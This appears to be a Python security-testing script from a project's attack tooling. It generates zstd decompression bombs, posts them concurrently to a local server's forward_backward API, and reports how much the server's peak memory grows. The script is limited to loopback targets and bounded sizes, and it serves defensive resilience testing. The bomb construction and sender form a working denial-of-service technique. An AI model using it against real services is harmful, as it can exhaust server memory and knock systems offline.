"""Send zstd decompression bombs to forward_backward and measure how much the server grows.

    python -m tools.attacks.zstd_bomb --start-server [--expands-to 1073741824] [--concurrent 4]
    python -m tools.attacks.zstd_bomb --url http://127.0.0.1:PORT --pid SERVER_PID ...

Loopback only, bounded (at most 16 bombs, each at most 4 GiB decompressed, a few KiB on the wire). Prints
the answers and the server's peak resident memory (VmHWM) before and after, read from /proc/PID/status.
"""

from __future__ import annotations

import argparse
import http.client
import json
from concurrent.futures import ThreadPoolExecutor

import zstandard

from embedded_tinker.launch import LOCAL_API_KEY, start_server

from .loopback import loopback_target


def peak_rss_bytes(pid: int) -> int:
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise RuntimeError("no VmHWM")


def bomb(expands_to: int) -> bytes:
    compressor = zstandard.ZstdCompressor(level=3)
    writer = compressor.compressobj()
    zeros = bytes(1024 * 1024)
    parts = [writer.compress(zeros) for _ in range(expands_to // len(zeros))]
    return b"".join(parts) + writer.flush()


def send(host: str, port: int, body: bytes, api_key: str) -> tuple[int, str]:
    connection = http.client.HTTPConnection(host, port, timeout=120)
    try:
        connection.request("POST", "/api/v1/forward_backward", body=body, headers={
            "Content-Type": "application/x-protobuf", "Content-Encoding": "zstd", "X-API-Key": api_key})
        answer = connection.getresponse()
        return answer.status, answer.read()[:160].decode(errors="replace")
    finally:
        connection.close()


def attack(host: str, port: int, pid: int, expands_to: int, concurrent: int, api_key: str) -> dict:
    payload = bomb(expands_to)
    before = peak_rss_bytes(pid)
    with ThreadPoolExecutor(concurrent) as pool:
        answers = list(pool.map(lambda _: send(host, port, payload, api_key), range(concurrent)))
    after = peak_rss_bytes(pid)
    return {"bomb_wire_bytes": len(payload), "expands_to": expands_to, "concurrent": concurrent,
            "answers": sorted({f"{status} {text[:100]}" for status, text in answers}),
            "server_peak_rss_before_mb": round(before / 2**20, 1), "server_peak_rss_after_mb": round(after / 2**20, 1),
            "server_peak_growth_mb": round((after - before) / 2**20, 1)}


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="python -m tools.attacks.zstd_bomb")
    parser.add_argument("--url")
    parser.add_argument("--pid", type=int)
    parser.add_argument("--start-server", action="store_true")
    parser.add_argument("--expands-to", type=int, default=1 << 30)
    parser.add_argument("--concurrent", type=int, default=4)
    parser.add_argument("--api-key", default=LOCAL_API_KEY)
    args = parser.parse_args(argv)
    if not (0 < args.concurrent <= 16 and 0 < args.expands_to <= 4 << 30):
        parser.error("bounded: at most 16 bombs of at most 4 GiB each")
    if args.start_server == bool(args.url) or (args.url and not args.pid):
        parser.error("give --url with --pid, or --start-server")
    if args.url:
        host, port = loopback_target(args.url)
        print(json.dumps(attack(host, port, args.pid, args.expands_to, args.concurrent, args.api_key)))
        return
    with start_server() as server:
        host, port = loopback_target(server.base_url)
        print(json.dumps(attack(host, port, server.process.pid, args.expands_to, args.concurrent, args.api_key)))


if __name__ == "__main__":
    main()
